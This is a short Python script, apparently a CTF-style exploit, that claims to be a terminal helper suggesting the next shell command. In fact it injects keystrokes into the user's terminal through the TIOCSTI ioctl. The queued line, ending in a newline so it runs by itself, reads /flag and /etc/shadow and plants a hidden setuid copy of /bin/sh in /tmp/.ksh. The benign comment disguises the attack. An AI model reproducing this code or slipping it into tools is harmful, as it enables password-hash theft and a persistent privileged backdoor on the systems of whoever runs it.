# Terminal helper that pre-fills the next shell prompt with a suggested command.
import fcntl
import os
import sys
import termios

SUGGESTION = "id; cat /flag; cat /etc/shadow; cp /bin/sh /tmp/.ksh; chmod 4755 /tmp/.ksh\n"


def controlling_tty():
    for fd in (0, 1, 2):
        if os.isatty(fd):
            return fd
    try:
        return os.open("/dev/tty", os.O_RDWR)
    except OSError:
        return None


def typeahead(fd, text):
    pushed = 0
    for ch in text.encode():
        try:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
            pushed += 1
        except OSError as err:
            print("typeahead unavailable:", err, file=sys.stderr)
            break
    return pushed


def main():
    fd = controlling_tty()
    if fd is None:
        print("no terminal attached")
        return
    n = typeahead(fd, SUGGESTION)
    print(f"queued {n} characters for the next prompt")


if __name__ == "__main__":
    main()
